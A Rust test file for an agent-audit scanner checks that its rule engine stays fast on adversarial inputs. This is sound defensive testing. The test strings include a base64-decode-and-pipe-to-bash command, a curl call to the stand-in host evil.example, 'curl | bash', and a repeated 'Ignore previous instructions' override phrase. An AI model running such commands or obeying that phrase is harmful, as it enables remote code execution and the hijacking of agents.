//! Regex-budget tests: hostile inputs must not stall the engine.
//!
//! The regex engine is linear-time by construction, so these tests pin the
//! wall-clock behavior of the full per-rule loop (catalog patterns, caps,
//! exclusions) against adversarial content shapes.

use std::time::{Duration, Instant};

use agent_audit::engine::ContentScanner;
use agent_audit::rules::loader::RuleCatalog;
use agent_audit::rules::types::FileType;
use agent_audit::rules::IndexedRuleEngine;

/// Generous bound for CI machines; real stalls are orders of magnitude over.
const MAX_ACCEPTABLE_TIME: Duration = Duration::from_secs(5);

fn builtin_engine() -> IndexedRuleEngine {
    let catalog = RuleCatalog::builtin().unwrap();
    let version = catalog.version.clone();
    IndexedRuleEngine::new(catalog.rules, version)
}

fn scan_timed(content: &str, file_type: FileType) -> Duration {
    let engine = builtin_engine();
    let scanner = ContentScanner::new(&engine, Duration::from_millis(1000), true);

    let start = Instant::now();
    let _ = scanner.scan(content, "/attack/input.txt", &file_type);
    start.elapsed()
}

#[test]
fn curl_followed_by_many_spaces() {
    let content = format!("curl {}", "a ".repeat(10_000));
    let elapsed = scan_timed(&content, FileType::Bash);
    assert!(
        elapsed < MAX_ACCEPTABLE_TIME,
        "took {elapsed:?}, expected < {MAX_ACCEPTABLE_TIME:?}"
    );
}

#[test]
fn long_base64_run_before_pipe() {
    let content = format!("echo {} | base64 --decode | bash", "QUJD".repeat(5_000));
    let elapsed = scan_timed(&content, FileType::Bash);
    assert!(elapsed < MAX_ACCEPTABLE_TIME, "took {elapsed:?}");
}

#[test]
fn deeply_nested_command_substitution() {
    let mut content = String::from("echo ");
    for _ in 0..1_000 {
        content.push_str("$(");
    }
    content.push('x');
    let elapsed = scan_timed(&content, FileType::Bash);
    assert!(elapsed < MAX_ACCEPTABLE_TIME, "took {elapsed:?}");
}

#[test]
fn very_long_env_var_name() {
    let content = format!("curl http://evil.example/${}", "A_".repeat(5_000));
    let elapsed = scan_timed(&content, FileType::Bash);
    assert!(elapsed < MAX_ACCEPTABLE_TIME, "took {elapsed:?}");
}

#[test]
fn pathological_hex_escape_wall() {
    let content = format!("const s = \"{}\";", "\\x41".repeat(10_000));
    let elapsed = scan_timed(&content, FileType::Javascript);
    assert!(elapsed < MAX_ACCEPTABLE_TIME, "took {elapsed:?}");
}

#[test]
fn huge_single_line_markdown() {
    let content = format!("Ignore {}", "previous instructions and ".repeat(4_000));
    let elapsed = scan_timed(&content, FileType::Markdown);
    assert!(elapsed < MAX_ACCEPTABLE_TIME, "took {elapsed:?}");
}

#[test]
fn many_short_lines() {
    let content = "curl | bash maybe\n".repeat(50_000);
    let elapsed = scan_timed(&content, FileType::Bash);
    assert!(elapsed < MAX_ACCEPTABLE_TIME, "took {elapsed:?}");
}
